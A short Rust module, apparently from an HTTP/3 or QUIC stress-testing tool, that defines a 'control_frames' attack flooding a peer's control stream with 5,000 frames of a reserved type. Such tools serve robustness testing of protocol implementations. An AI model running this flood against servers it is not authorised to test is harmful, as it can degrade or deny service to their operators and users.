//! Frames of reserved types on the control stream.

use crate::attacker::{Attack, Attacker};
use crate::flood;
use crate::wire;

pub(super) const ATTACK: Attack = Attack::new(
    "control_frames",
    "frames of reserved types on the control stream",
    run,
);

fn run(a: &mut Attacker) {
    let frames = wire::frame(0x21, b"").repeat(5_000);
    flood::control(a, &frames, 5_000);
}
